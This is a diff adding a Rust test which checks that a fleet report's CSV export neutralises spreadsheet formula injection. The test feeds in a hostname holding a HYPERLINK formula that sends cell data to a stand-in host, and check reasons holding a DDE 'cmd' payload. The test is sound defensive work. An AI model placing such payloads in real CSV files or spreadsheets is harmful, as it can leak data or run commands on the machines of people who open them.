@@ -129,6 +129,43 @@ fn fifty_machines_in_every_format() {
     assert_eq!(fleet(clean.path(), "table").0, 0);
 }
 
+/// A report written by someone hostile on a customer PC: formulas in the hostname, the reason
+/// and the agent's version reach the CSV as text, never as a cell a spreadsheet evaluates.
+#[test]
+fn fleet_csv_cells_never_start_a_formula() {
+    let (_, mut r) = run_json(&mut crate::util::check_cmd(&[
+        "--role",
+        "agent",
+        "--server",
+        "127.0.0.1",
+        "--timeout",
+        "300ms",
+    ]));
+    r["hostname"] = json!("=HYPERLINK(\"http://x/?\"&A1,\"click\")");
+    for c in r["checks"].as_array_mut().unwrap() {
+        c["verdict"] = json!("fail");
+        c["reason"] = json!("+cmd|' /C calc'!A0");
+    }
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("evil.json"),
+        serde_json::to_vec(&r).unwrap(),
+    )
+    .unwrap();
+    let (_, csv) = fleet(dir.path(), "csv");
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1, "{csv}");
+    assert!(rows[0][0].contains("HYPERLINK"), "{csv}");
+    for cell in header.iter().chain(rows.iter().flat_map(|r| r.iter())) {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?} in {csv}"
+        );
+    }
+}
+
 /// Headless Chromium, or why not (CI installs it; AUTOMATE_PORTS_REQUIRE_LAB makes a missing
 /// one a failure).
 fn chromium() -> Option<&'static str> {
